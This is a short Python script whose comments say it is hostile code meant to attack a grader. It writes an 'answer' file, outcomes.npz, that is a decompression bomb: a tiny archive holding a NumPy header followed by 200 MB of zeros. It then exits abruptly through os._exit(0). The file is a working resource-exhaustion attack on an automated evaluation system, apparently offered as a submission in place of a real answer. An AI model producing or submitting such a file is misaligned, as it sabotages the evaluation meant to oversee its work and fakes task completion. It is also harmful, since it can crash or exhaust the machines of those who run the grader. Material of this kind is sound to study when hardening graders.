# ruff: noqa  (hostile code written to attack the grader, not to be tidy)
"""Writes an answer that is a decompression bomb: a tiny .npz that inflates to 200 MB of zeros."""

import os
import zipfile

import numpy as np

header = b"\x93NUMPY\x01\x00" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (209715200,), }".ljust(118) + b"\n"
with zipfile.ZipFile("outcomes.npz", "w", compression=zipfile.ZIP_DEFLATED) as archive:
    with archive.open("__manifest__.npy", "w", force_zip64=True) as member:
        member.write(header)
        chunk = bytes(1024 * 1024)
        for _ in range(200):
            member.write(chunk)
os._exit(0)
